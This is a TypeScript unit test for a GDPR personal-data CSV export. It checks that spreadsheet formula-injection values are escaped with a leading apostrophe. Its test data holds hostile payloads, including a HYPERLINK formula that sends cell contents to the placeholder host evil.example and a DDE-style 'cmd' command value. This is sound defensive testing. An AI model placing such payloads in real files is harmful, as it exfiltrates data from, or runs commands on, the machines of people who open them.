import { describe, expect, it } from 'vitest';
import { CSV_BOM } from '@guida/shared/server/csv';
import { personalDataCsv, type PersonalDataExport } from './personal-data-export';

const exportOf = (data: PersonalDataExport['data']): PersonalDataExport => ({
  generatedAt: '2026-11-24T20:00:00.000Z',
  email: 'mario.rossi@example.it',
  information: {},
  data,
});

describe('personalDataCsv', () => {
  it('defuses every value a spreadsheet would run as a formula', () => {
    const csv = personalDataCsv(
      exportOf({
        ebook_requests: [
          {
            id: 7,
            nome: '=HYPERLINK("http://evil.example/?d="&A1,"Clicca")',
            cognome: "+cmd|' /C calc'!A0",
            source: '@SUM(1+1)',
            utm_source: '-2+3',
            utm_medium: '\t=1+1',
          },
        ],
      }),
    );
    // A leading apostrophe makes the spreadsheet read the cell as text.
    expect(csv.slice(CSV_BOM.length).split('\r\n').slice(1, -1)).toEqual([
      `ebook_requests;7;nome;"'=HYPERLINK(""http://evil.example/?d=""&A1,""Clicca"")"`,
      "ebook_requests;7;cognome;'+cmd|' /C calc'!A0",
      "ebook_requests;7;source;'@SUM(1+1)",
      "ebook_requests;7;utm_source;'-2+3",
      // A TAB is a separator to some importers: the cell is quoted.
      `ebook_requests;7;utm_medium;"'\t=1+1"`,
    ]);
  });

  it('writes the Italian spreadsheet CSV of the admin exports, nested values as JSON', () => {
    const csv = personalDataCsv(
      exportOf({
        ebook_requests: [{ id: 3, nome: 'Lucia', telefono: '+393471234567', created_at: new Date('2026-11-01T10:00:00Z') }],
        gdpr_data_requests: [{ id: 9, request_data: { details: 'Cognome errato' }, notes: null }],
      }),
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.slice(CSV_BOM.length).split('\r\n')).toEqual([
      'tabella;id;campo;valore',
      'ebook_requests;3;nome;Lucia',
      "ebook_requests;3;telefono;'+393471234567",
      'ebook_requests;3;created_at;2026-11-01T10:00:00.000Z',
      'gdpr_data_requests;9;request_data;"{""details"":""Cognome errato""}"',
      'gdpr_data_requests;9;notes;',
      '',
    ]);
  });
});
